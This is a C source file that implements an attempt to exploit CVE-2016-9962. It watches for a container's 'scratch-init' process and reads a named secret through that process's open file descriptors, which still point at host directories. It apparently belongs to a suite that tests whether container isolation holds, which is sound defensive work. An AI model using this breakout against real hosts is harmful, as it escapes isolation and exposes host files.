/* SPDX-License-Identifier: MIT */
/*
 * CVE-2016-9962: reach the host through a container's first process, before it has executed its
 * command: what it has open then is the host's.
 */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static bool is_scratch_init(const char *pid)
{
    char path[300], name[32];
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = *pid >= '1' && *pid <= '9' ? open(path, O_RDONLY) : -1;
    ssize_t n = fd < 0 ? 0 : read(fd, name, sizeof name - 1);
    if (fd >= 0)
        close(fd);
    name[n > 0 ? n : 0] = '\0';
    return strcmp(name, "scratch-init\n") == 0;
}

/* Below any directory that it has open, or above it. */
static int take(const char *pid, const char *secret)
{
    static const char *const up[] = {"", "../", "../../"};
    char path[512];
    for (int fd = 3; fd < 16; fd++)
        for (size_t i = 0; i < sizeof up / sizeof *up; i++) {
            snprintf(path, sizeof path, "/proc/%s/fd/%d/%s%s", pid, fd, up[i], secret);
            if (attack_print(AT_FDCWD, path) == 0)
                return 0;
        }
    return -1;
}

/* trace SECRET: a name; for as long as it takes three seconds */
int attack_trace(char **argv)
{
    DIR *proc = opendir("/proc");
    time_t end = time(NULL) + 3;
    bool seen = false;
    if (!proc)
        return attack_not_tried("/proc");
    if (write(STDOUT_FILENO, "ready\n", 6) != 6)
        return attack_not_tried("say that it began");
    while (time(NULL) < end) {
        rewinddir(proc);
        for (struct dirent *entry; (entry = readdir(proc));) {
            if (!is_scratch_init(entry->d_name))
                continue;
            seen = true;
            if (take(entry->d_name, argv[0]) == 0)
                return ATTACK_OUT;
        }
    }
    errno = EACCES;
    return seen ? attack_held("read its fds") : attack_not_tried("no scratch-init was seen");
}
